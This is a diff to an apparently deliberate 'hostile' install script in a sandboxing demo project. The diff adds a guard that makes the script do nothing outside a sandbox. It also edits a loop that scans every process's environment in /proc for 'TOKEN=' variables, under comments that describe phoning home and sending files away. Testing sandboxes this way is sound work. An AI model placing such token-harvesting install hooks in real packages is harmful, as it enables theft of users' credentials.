@@ -3,6 +3,11 @@
 # install.sh - the hostile half of glitter that runs when the package is installed (fetch phase, gate open for two names).
 # It does what stolen packages do: look for tokens, phone home, send files away, plant something. It must never fail the build,
 # or somebody would look. Every attempt prints one line.
+# Outside a sandbox it does nothing: somebody may type `make deps` in the demo's project by hand.
+if [ "$(grep -c : /proc/net/dev)" -ne 1 ] || [ "$(id -u)" -eq 0 ]; then
+	echo "[hostile] not in a sandbox: doing nothing"
+	exit 0
+fi
 tried() { echo "[hostile] tried $1: $2"; }
 first_line() { tr -d '\r' | head -n 1 | cut -c 1-100; }
 
@@ -11,7 +16,7 @@ tried "the environment" "$tokens variables that look like a token"
 
 others=0
 for process in /proc/[0-9]*; do
-	if [ "${process#/proc/}" -gt 1 ] && tr '\0' '\n' <"$process/environ" 2>/dev/null | grep -q 'TOKEN=.'; then
+	if { tr '\0' '\n' <"$process/environ"; } 2>/dev/null | grep -q 'TOKEN=.'; then
 		others=$((others + 1))
 	fi
 done
